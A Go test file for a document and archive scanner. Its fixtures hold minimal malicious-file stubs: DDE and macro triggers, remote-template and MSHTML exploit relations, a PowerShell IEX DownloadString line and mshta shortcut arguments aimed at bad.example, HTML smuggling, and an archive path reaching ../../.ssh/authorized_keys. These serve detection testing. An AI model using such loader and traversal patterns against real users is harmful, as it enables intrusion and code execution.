package files

import (
	"encoding/base64"
	"slices"
	"strings"
	"testing"
)

// kind is a file of a kind, and what must be found in it. The files are made here, or are harmless ones of testdata.
type kind struct {
	name, file string
	data       []byte
	id         string
	found      Kind // empty: nothing but notes
	severity   Severity
	words      string
	evidence   string
}

func officeKinds(t testing.TB) []kind {
	equation := []byte("\x02\xce\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46")
	return []kind{
		{"plain Word", "a.docx", wordDocument(t, "<w:document/>"), "docx", "", 0, "", ""},
		{"Word with links", "a.docx", wordDocument(t, "<w:document/>", "word/_rels/document.xml.rels", rels("hyperlink", "https://site.example/", "External")), "docx", Link, Note, "Where its links lead", "https://site.example/"},
		{"macros", "a.docm", wordDocument(t, "", "word/vbaProject.bin", string(vbaProject())), "docm", Macro, Bad, "holds macros", ""},
		{"macros that run", "a.docm", wordDocument(t, "", "word/vbaProject.bin", string(vbaProject())), "docm", Macro, Bad, "run on their own", "document_open in ThisDocument"},
		{"macros that start programs", "a.docm", wordDocument(t, "", "word/vbaProject.bin", string(vbaProject())), "docm", Macro, Bad, "starts other programs", "wscript.shell"},
		{"addresses in macros", "a.docm", wordDocument(t, "", "word/vbaProject.bin", string(vbaProject())), "docm", Link, Note, "in its macros", "http://files.example/x"},
		{"macros in what says it has none", "a.docx", wordDocument(t, "", "word/vbaProject.bin", string(vbaProject())), "docm", Macro, Bad, "holds macros", ""},
		{"a template elsewhere (T1221)", "a.docx", wordDocument(t, "", "word/_rels/settings.xml.rels", rels("attachedTemplate", "http://bad.example/t.dotm", "External")), "docx", Outside, Bad, "loads its template", "http://bad.example/t.dotm"},
		{"a template on a disk", "a.docx", wordDocument(t, "", "word/_rels/settings.xml.rels", rels("attachedTemplate", "file:///C:\\Users\\x\\Normal.dotm", "External")), "docx", "", 0, "", ""},
		{"an object elsewhere (CVE-2017-0199)", "a.docx", wordDocument(t, "", "word/_rels/document.xml.rels", rels("oleObject", "https://bad.example/x.hta", "External")), "docx", Outside, Bad, "loads an object", "https://bad.example/x.hta"},
		{"MSHTML (CVE-2021-40444)", "a.docx", wordDocument(t, "", "word/_rels/document.xml.rels", rels("oleObject", "mhtml:https://bad.example/x!x-usc:https://bad.example/x", "External")), "docx", Exploit, Bad, "known from attacks", "mhtml:"},
		{"a picture elsewhere", "a.docx", wordDocument(t, "", "word/_rels/document.xml.rels", rels("image", "https://track.example/p.png", "External")), "docx", Outside, Odd, "loads a picture", "https://track.example/p.png"},
		{"DDE in one run", "a.docx", wordDocument(t, `<w:fldSimple w:instr="DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot;">`), "docx", DDE, Bad, "DDE", `cmd.exe "/k calc"`},
		{"DDE in many runs", "a.docx", wordDocument(t, `<w:instrText>DDE</w:instrText></w:r><w:r><w:instrText xml:space="preserve">AUTO c:\\cmd.exe</w:instrText>`), "docx", DDE, Bad, "DDE", "DDEAUTO"},
		{"XML bomb", "a.docx", wordDocument(t, `<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><w:document>&b;</w:document>`), "docx", Broken, Bad, "declares XML entities", "word/document.xml"},
		{"an embedded script", "a.docx", wordDocument(t, "", "word/embeddings/oleObject1.bin", string(compoundFile(nil, node{name: "\x01Ole10Native", data: native("run.js", "WScript.Shell")}))), "docx", Program, Bad, "A script (JavaScript)", ""},
		{"ActiveX", "a.docx", wordDocument(t, "", "word/activeX/activeX1.bin", "x"), "docx", Embedded, Odd, "ActiveX", ""},
		{"plain Excel", "a.xlsx", workbook(t, `<workbook><sheets><sheet name="A"/></sheets></workbook>`), "xlsx", "", 0, "", ""},
		{"Excel 4 macros", "a.xlsm", workbook(t, "", "xl/macrosheets/sheet1.xml", "x"), "xlsx", Macro, Bad, "Excel 4", ""},
		{"a sheet not shown", "a.xlsx", workbook(t, `<sheet name="M" state="veryHidden"/>`), "xlsx", Fact, Odd, "do not show", "veryHidden"},
		{"DDE in Excel", "a.xlsx", workbook(t, "", "xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`), "xlsx", DDE, Bad, "DDE", "ddeService"},
		{"PowerPoint", "a.pptx", zipped(t, "[Content_Types].xml", "", "ppt/presentation.xml", ""), "pptx", "", 0, "", ""},
		{"OpenDocument", "a.odt", zipped(t, "mimetype", "application/vnd.oasis.opendocument.text", "content.xml", "<a/>", "META-INF/manifest.xml", ""), "odf", "", 0, "", ""},
		{"OpenDocument with macros", "a.odt", zipped(t, "mimetype", "", "content.xml", "<script:event-listener/>", "Basic/Standard/Module1.xml", "x"), "odf", Macro, Bad, "holds macros", ""},
		{"OpenDocument with a password", "a.odt", zipped(t, "mimetype", "", "content.xml", "", "META-INF/manifest.xml", "<m:encryption-data/>"), "odf", Locked, Odd, "password", ""},
		{"a password", "a.docx", compoundFile(nil, node{name: "EncryptionInfo", data: "x"}, node{name: "EncryptedPackage", data: strings.Repeat("x", 5000)}), "sealed", Locked, Odd, "password", ""},
		{"old Word", "a.doc", compoundFile(nil, node{name: "WordDocument", data: strings.Repeat("\x00", 5000)}), "doc", "", 0, "", ""},
		{"old Word with macros", "a.doc", compoundFile(nil, node{name: "WordDocument", data: "x"}, node{name: "Macros", in: []node{{name: "VBA", in: []node{{name: "dir"}, {name: "M", data: packedVBA(macroSource)}}}}}), "doc", Macro, Bad, "run on their own", "document_open in M"},
		{"old Word with a password", "a.doc", compoundFile(nil, node{name: "WordDocument", data: strings.Repeat("\x00", 11) + "\x01" + strings.Repeat("\x00", 500)}), "doc", Locked, Odd, "password", ""},
		{"old Word with DDE", "a.doc", compoundFile(nil, node{name: "WordDocument", data: strings.Repeat("\x00", 600) + "\x13 DDEAUTO c:\\cmd.exe\x14"}), "doc", DDE, Bad, "DDE", "cmd.exe"},
		{"Equation Editor", "a.doc", compoundFile(nil, node{name: "WordDocument", data: "x"}, node{name: "ObjectPool", in: []node{{name: "_1", class: equation, in: []node{{name: "Equation Native", data: "x"}}}}}), "doc", Exploit, Bad, "Equation Editor", "_1"},
		{"old Excel with Excel 4 macros", "a.xls", compoundFile(nil, node{name: "Workbook", data: record(0x809, "xxxx") + record(0x85, "\x00\x00\x00\x00\x02\x01\x05\x00Macro")}), "xls", Macro, Bad, "Excel 4", "Macro"},
		{"old Excel with a password", "a.xls", compoundFile(nil, node{name: "Workbook", data: record(0x809, "xxxx") + record(0x2f, "xx")}), "xls", Locked, Odd, "password", ""},
		{"installer", "a.msi", compoundFile([]byte("\x84\x10\x0c\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"), node{name: "x", data: "x"}), "msi", Program, Bad, "A program", ""},
		{"installer as a document", "a.doc", compoundFile([]byte("\x84\x10\x0c\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"), node{name: "x", data: "x"}), "msi", Mismatch, Bad, "It is a Windows installer", ""},
		{"Outlook message", "a.msg", compoundFile(nil, node{name: "__properties_version1.0", data: "x"}), "msg", "", 0, "", ""},
		{"RTF", "a.rtf", []byte(`{\rtf1\ansi Hello \'e9 {\b bold}\par}`), "rtf", "", 0, "", ""},
		{"RTF with Equation Editor (CVE-2017-11882)", "a.doc", []byte(`{\rt{\object\objemb\objupdate{\*\objdata 01050000 0200{\ignored}0000 0b0000 00` + objectHex("Equation.3\x00") + `}}}`), "rtf", Exploit, Bad, "Equation Editor", ""},
		{"RTF that loads at once", "a.rtf", []byte(`{\rtf1{\object\objupdate{\*\objdata 0105}}}`), "rtf", Exploit, Bad, `objupdate`, ""},
		{"RTF with a template elsewhere", "a.rtf", []byte(`{\rtf1{\*\template http://bad.example/t.dotm}}`), "rtf", Outside, Bad, "loads its template", "http://bad.example/t.dotm"},
		{"RTF with DDE", "a.rtf", []byte(`{\rtf1{\field{\*\fldinst DDEAUTO c:\\cmd.exe}}}`), "rtf", DDE, Bad, "DDE", "cmd.exe"},
		{"RTF with a file", "a.rtf", []byte(`{\rtf1{\object{\*\objdata ` + objectHex(string(compoundFile(nil, node{name: "\x01Ole10Native", data: native("x.exe", "MZ")}))) + `}}}`), "rtf", Program, Bad, "A program", ""},
		{"Word as XML with macros", "a.xml", []byte(`<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument w:macrosPresent="yes"/>`), "officexml", Macro, Bad, "holds macros", ""},
		{"OneNote", "a.one", oneNote("\x89PNG\r\n\x1a\n", "MZ program"), "one", Embedded, Odd, "not pictures", "Windows program"},
		{"OneNote names", "a.one", oneNote("x"), "one", Embedded, Bad, "names files", "open me.wsf"},
	}
}

func pdfKinds() []kind {
	return []kind{
		{"plain", "a.pdf", pdfOf("<< /Type /Catalog >>"), "pdf", "", 0, "", ""},
		{"links", "a.pdf", pdfOf("<< /A << /S /URI /URI (https://site.example/\\(a\\)) >> >>"), "pdf", Link, Note, "links lead", "https://site.example/(a)"},
		{"links in hexadecimal", "a.pdf", pdfOf("<< /S /URI /URI <68747470733a2f2f612e6578616d706c65> >>"), "pdf", Link, Note, "links lead", "https://a.example"},
		{"links in packed objects", "a.pdf", pdfOf(pdfStream("/Type /ObjStm /Filter /FlateDecode", deflate("<< /S /URI /URI (https://b.example) >>"))), "pdf", Link, Note, "links lead", "https://b.example"},
		{"JavaScript", "a.pdf", pdfOf("<< /S /JavaScript /JS (app.alert) >>"), "pdf", Active, Odd, "holds JavaScript", "app.alert"},
		{"JavaScript on opening", "a.pdf", pdfOf("<< /OpenAction << /S /JavaScript /JS (eval\\(unescape) >> >>"), "pdf", Active, Bad, "when it is opened", "/OpenAction"},
		{"names in disguise", "a.pdf", pdfOf("<< /OpenAction << /S /J#61vaScript /#4a#53 (x) >> >>"), "pdf", Active, Odd, "filters do not read", ""},
		{"a program", "a.pdf", pdfOf("<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"), "pdf", Active, Bad, "Launch", "cmd.exe"},
		{"a file on a server", "a.pdf", pdfOf("<< /S /GoToR /F (\\\\\\\\srv.example\\\\x) >>"), "pdf", Outside, Bad, "from elsewhere", `\\srv.example\x`},
		{"a form", "a.pdf", pdfOf("<< /S /SubmitForm /F (https://c.example) >>"), "pdf", Form, Odd, "sends what", "https://c.example"},
		{"a file in it", "a.pdf", pdfOf(pdfStream("/Type /EmbeddedFile /Filter /FlateDecode", deflate("MZ program"))), "pdf", Program, Bad, "A program", ""},
		{"encrypted", "a.pdf", pdfOf("<< /Encrypt 5 0 R >>"), "pdf", Locked, Note, "encrypted", ""},
		{"with something before it", "a.pdf", append([]byte("junk\n"), pdfOf("<< /S /Launch >>")...), "pdf", Active, Bad, "Launch", ""},
		{"what stands in text is not an action", "a.pdf", pdfOf("<< /T (/JavaScript /Launch) >>", pdfStream("", "/JavaScript /OpenAction")), "pdf", "", 0, "", ""},
	}
}

func pageKinds(t testing.TB) []kind {
	hidden := base64.StdEncoding.EncodeToString(zipped(t, "x.exe", "MZ"+noise(3000)))
	return []kind{
		{"a page", "a.html", []byte("<html><body><a href='https://site.example/'>x</a></body></html>"), "html", Link, Note, "links lead", "https://site.example/"},
		{"smuggling with a blob (T1027.006)", "a.html", []byte("<script>var b=new Blob([atob(x)]);a.href=URL.createObjectURL(b);a.download='x.zip'</script>"), "html", Smuggling, Bad, "builds a file", "new blob"},
		{"smuggling in Internet Explorer", "a.html", []byte("<script>navigator.msSaveOrOpenBlob(new Blob([u]),'x.zip')</script>"), "html", Smuggling, Bad, "builds a file", "mssaveoropenblob"},
		{"smuggling without scripts", "a.html", []byte("<a download='x.zip' href='data:application/zip;base64,UEsDBA=='>x</a>"), "html", Smuggling, Bad, "holds a file that it saves", ""},
		{"a hidden archive", "a.html", []byte("<script>var x='" + hidden + "'</script>"), "html", Smuggling, Bad, "ZIP archive", ""},
		{"what is in a hidden archive", "a.html", []byte("<script>var x='" + hidden + "'</script>"), "html", Program, Bad, "A program", ""},
		{"asks for a password", "a.htm", []byte("<form action='https://bad.example/p.php'><input type=password></form>"), "html", Form, Bad, "password", "https://bad.example/p.php"},
		{"asks for something", "a.htm", []byte("<form action='https://b.example/'><input name=q></form>"), "html", Form, Odd, "sends it", "https://b.example/"},
		{"sends on", "a.html", []byte("<html><meta http-equiv=refresh content='0;url=https://bad.example/'></html>"), "html", Active, Bad, "sends the browser", "https://bad.example/"},
		{"sends on by script", "a.html", []byte("<script>window.location.href='https://bad.example/'</script>"), "html", Active, Bad, "sends the browser", "bad.example"},
		{"hides", "a.html", []byte("<script>document.write(unescape('%3c'))</script>"), "html", Active, Bad, "hide what they do", "unescape("},
		{"a picture in it is none", "a.html", []byte("<img src='data:image/png;base64," + base64.StdEncoding.EncodeToString([]byte("\x89PNG\r\n\x1a\n"+strings.Repeat("x", 4000))) + "'>"), "html", "", 0, "", ""},
		{"UTF-16", "a.html", []byte("\xff\xfe" + utf16le("<html><script>location.replace('https://bad.example')</script></html>")), "html", Active, Bad, "sends the browser", ""},
		{"SVG", "a.svg", []byte("<svg xmlns='http://www.w3.org/2000/svg'><rect/></svg>"), "svg", "", 0, "", ""},
		{"SVG with a script", "a.svg", []byte("<?xml version='1.0'?><svg><script>alert(1)</script></svg>"), "svg", Active, Bad, "picture runs scripts", ""},
		{"SVG with a handler", "a.svg", []byte("<svg onload='x()'/>"), "svg", Active, Bad, "picture runs scripts", ""},
		{"SVG with a page", "a.svg", []byte("<svg><foreignObject><body/></foreignObject></svg>"), "svg", Active, Odd, "holds a web page", ""},
		{"invitation", "a.ics", []byte("BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nORGANIZER:mailto:a@b.example\r\nSUMMARY:Pay\r\nDESCRIPTION:see https://c.\r\n example/x\r\nEND:VCALENDAR\r\n"), "ics", Link, Note, "links lead", "https://c.example/x"},
		{"who invites", "a.ics", []byte("BEGIN:VCALENDAR\r\nORGANIZER;CN=X:mailto:a@b.example\r\nEND:VCALENDAR\r\n"), "ics", Invitation, Note, "Who asks", "mailto:a@b.example"},
		{"invitation with a program", "a.ics", []byte("BEGIN:VCALENDAR\r\nATTACH;ENCODING=BASE64;VALUE=BINARY:" + base64.StdEncoding.EncodeToString([]byte("MZ program..")) + "\r\nEND:VCALENDAR\r\n"), "ics", Program, Bad, "A program", ""},
	}
}

func shortcutKinds() []kind {
	return []kind{
		{"shortcut", "a.lnk", shortcut(`..\..\Windows\System32\cmd.exe`, "/c powershell -w hidden iwr http://bad.example/x"), "lnk", Program, Bad, "What it starts", "cmd.exe"},
		{"what a shortcut says", "a.lnk", shortcut("cmd.exe", "/c mshta http://bad.example/x"), "lnk", Program, Bad, "With these words", "mshta http://bad.example/x"},
		{"a shortcut that fetches", "a.lnk", shortcut("powershell.exe", "-w hidden iwr http://bad.example/x"), "lnk", Program, Bad, "fetches from elsewhere", "iwr"},
		{"a shortcut with more behind it", "a.lnk", append(shortcut("cmd.exe", "/c x"), make([]byte, 4000)...), "lnk", Embedded, Bad, "Behind the shortcut", ""},
		{"a shortcut as a PDF", "a.pdf", shortcut("cmd.exe", ""), "lnk", Mismatch, Bad, "Windows shortcut", ""},
		{"internet shortcut", "a.url", []byte("[InternetShortcut]\r\nURL=https://site.example/\r\n"), "url", Program, Bad, "What it opens", "https://site.example/"},
		{"internet shortcut to a server (CVE-2023-36025)", "a.url", []byte("[InternetShortcut]\nURL=file://bad.example@80/share/x.url\n"), "url", Outside, Bad, "server elsewhere", "bad.example"},
		{"library", "a.library-ms", []byte("<?xml version='1.0'?><libraryDescription><url>\\\\bad.example@80\\DavWWWRoot</url></libraryDescription>"), "library", Link, Note, "Addresses", `\\bad.example@80\DavWWWRoot`},
		{"remote desktop", "a.rdp", []byte("full address:s:bad.example\nremoteapplicationprogram:s:x"), "rdp", Program, Bad, "What it opens", "bad.example"},
		{"JavaScript", "a.js", []byte("new ActiveXObject('WScript.Shell').Run('cmd /c calc')"), "js", Program, Bad, "starts other programs", "wscript.shell"},
		{"PowerShell", "a.ps1", []byte("IEX (New-Object Net.WebClient).DownloadString('http://bad.example/a')"), "ps1", Program, Bad, "fetches", "downloadstring"},
		{"batch file", "a.bat", []byte("@echo off\r\nstart https://bad.example\r\n"), "bat", Link, Note, "Addresses", "https://bad.example"},
		{"HTML application", "a.hta", []byte("<html><script>new ActiveXObject('WScript.Shell')</script></html>"), "hta", Program, Bad, "starts other programs", ""},
		{"a query", "a.iqy", []byte("WEB\n1\nhttps://bad.example/q\n"), "query", Link, Note, "Addresses", "https://bad.example/q"},
		{"registry", "a.reg", []byte("Windows Registry Editor Version 5.00\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n"), "reg", Program, Bad, "starts something else", ""},
	}
}

func archiveKinds(t testing.TB) []kind {
	return []kind{
		{"ZIP with a password", "a.zip", fixture(t, "locked.zip"), "zip", Locked, Odd, "password", ""},
		{"a program in a locked ZIP", "a.zip", fixture(t, "locked.zip"), "zip", Program, Bad, "A program", ""},
		{"7z", "a.7z", fixture(t, "plain.7z"), "7z", BadName, Bad, "two extensions", ""},
		{"7z with a password", "a.7z", fixture(t, "locked.7z"), "7z", Locked, Odd, "It takes a password:", ""},
		{"7z with a password for its names", "a.7z", fixture(t, "sealed.7z"), "7z", Locked, Odd, "names of its files", ""},
		{"RAR", "a.rar", rar5(false, "docs/a.txt", "hello", "pay.pdf.exe", "MZ"), "rar", Program, Bad, "A program", ""},
		{"RAR with a password", "a.rar", rar5(true, "pay.pdf.exe", "MZ"), "rar", Locked, Odd, "password", ""},
		{"cabinet", "a.cab", cabinet("a.txt", "b\\run.js"), "cab", Program, Bad, "A script", ""},
		{"one of several cabinets", "a.cab", followed(cabinet("a.txt")), "cab", Fact, Note, "several parts", ""},
		{"ISO with Joliet", "a.iso", fixture(t, "joliet.iso.gz"), "iso", BadName, Bad, "two extensions", ""},
		{"UDF", "a.img", fixture(t, "udf.iso.gz"), "iso", Program, Bad, "A program", ""},
		{"a disk image", "a.iso", fixture(t, "udf.iso.gz"), "iso", Disk, Bad, "disk image", ""},
		{"xz", "a.txt.xz", fixture(t, "text.txt.xz"), "xz", "", 0, "", ""},
		{"bzip2", "a.txt.bz2", fixture(t, "text.txt.bz2"), "bz2", "", 0, "", ""},
		{"Java", "a.jar", zipped(t, "META-INF/MANIFEST.MF", "x"), "jar", Program, Bad, "A program", ""},
		{"a broken ZIP", "a.zip", zipped(t, "a.txt", "hello")[:40], "zip", Broken, Odd, "table of contents", ""},
		{"a path out", "a.tar", tarred(t, "../../.ssh/authorized_keys", "x"), "tar", Path, Bad, "leads out", "../../.ssh"},
		{"a path out on Windows", "a.zip", zipped(t, `..\..\x.txt`, "x"), "zip", Path, Bad, "leads out", `..\..`},
	}
}

func TestKinds(t *testing.T) {
	for group, list := range map[string][]kind{"office": officeKinds(t), "pdf": pdfKinds(), "page": pageKinds(t), "shortcut": shortcutKinds(), "archive": archiveKinds(t)} {
		for _, k := range list {
			t.Run(group+"/"+k.name, func(t *testing.T) {
				r := Look(k.file, "", k.data)
				if r.Type.ID != k.id {
					t.Errorf("type %q, want %q", r.Type.ID, k.id)
				}
				if k.found == "" {
					if r.Worst() > Note {
						t.Errorf("findings where there is nothing: %+v", r.Findings)
					}
					return
				}
				if !slices.ContainsFunc(r.Findings, func(f Finding) bool {
					return f.Kind == k.found && f.Severity == k.severity && strings.Contains(f.Words, k.words) &&
						(k.evidence == "" || strings.Contains(strings.Join(f.Evidence, "\n"), k.evidence))
				}) {
					t.Errorf("want %s %v %q %q in %+v", k.found, k.severity, k.words, k.evidence, r.Findings)
				}
			})
		}
	}
}

// noise is text that does not pack well.
func noise(n int) string {
	var b strings.Builder
	x := uint32(1)
	for range n {
		x = x*1664525 + 1013904223
		b.WriteByte(byte(x >> 24))
	}
	return b.String()
}

// TestEncryptedIsTold holds the one flag that others ask for.
func TestEncryptedIsTold(t *testing.T) {
	for _, name := range []string{"locked.zip", "locked.7z", "sealed.7z"} {
		if r := Look(name, "", fixture(t, name)); !r.Encrypted {
			t.Errorf("%s is not told to be encrypted", name)
		}
		if r := Look("a.zip", "", zipped(t, name, string(fixture(t, name)))); !r.Encrypted {
			t.Errorf("%s is not told to be encrypted within an archive", name)
		}
	}
	if r := Look("a.7z", "", fixture(t, "plain.7z")); r.Encrypted {
		t.Error("plain.7z is told to be encrypted")
	}
}

// TestListings holds the tables of contents.
func TestListings(t *testing.T) {
	for name, want := range map[string]string{
		"plain.7z":      "docs/ more/ more/folder1/ more/folder2/ more/folder3/ more/folder4/ more/folder5/ more/folder6/ docs/read.txt=5 invoice.pdf.exe=16 more/folder1/a-file-with-a-long-name.txt=1 more/folder2/a-file-with-a-long-name.txt=1 more/folder3/a-file-with-a-long-name.txt=1 more/folder4/a-file-with-a-long-name.txt=1 more/folder5/a-file-with-a-long-name.txt=1 more/folder6/a-file-with-a-long-name.txt=1",
		"locked.7z":     "docs/ docs/read.txt=5! invoice.pdf.exe=16!",
		"sealed.7z":     "",
		"locked.zip":    "invoice.pdf.exe=16!",
		"joliet.iso.gz": "docs/ invoice.pdf.exe=16 docs/read.txt=5",
		"udf.iso.gz":    "docs/ invoice.pdf.exe=16 docs/read.txt=5",
	} {
		r := Look(name, "", fixture(t, name))
		var list []string
		for _, e := range r.Entries {
			s := e.Path
			if e.Dir {
				s += "/"
			} else {
				s += "=" + strings.TrimSuffix(Bytes(e.Size), " bytes")
			}
			if e.Encrypted {
				s += "!"
			}
			list = append(list, s)
		}
		if got := strings.Join(list, " "); got != want {
			t.Errorf("%s:\n got %s\nwant %s", name, got, want)
		}
	}
	r := Look("udf.iso", "", fixture(t, "udf.iso.gz"))
	if in := r.Entries[2].Inside; in == nil || in.SHA256 != "2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824" { // of "hello"
		t.Errorf("what is in the image was not read: %+v", in)
	}
}
